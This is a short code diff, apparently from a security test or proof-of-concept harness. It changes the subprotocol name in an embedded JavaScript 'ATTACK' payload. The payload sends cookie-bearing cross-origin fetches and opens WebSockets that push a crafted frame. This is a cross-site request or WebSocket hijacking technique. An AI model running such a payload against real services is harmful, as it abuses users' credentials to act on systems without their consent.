@@ -51,7 +51,7 @@ ATTACK = """async ({ targets, pages, lines, frame }) => {
     await Promise.race([Promise.allSettled(pages.map(url => fetch(url, { mode: "no-cors", credentials: "include" }))),
                         pause(5000)]);
     const opened = await Promise.all(lines.map(url => new Promise(done => {
-        const socket = new WebSocket(url, "porchlight.1");
+        const socket = new WebSocket(url, "line.1");
         socket.onopen = () => { socket.send(JSON.stringify(frame)); done(url); };
         socket.onerror = () => done(null);
         setTimeout(() => done(null), 5000);
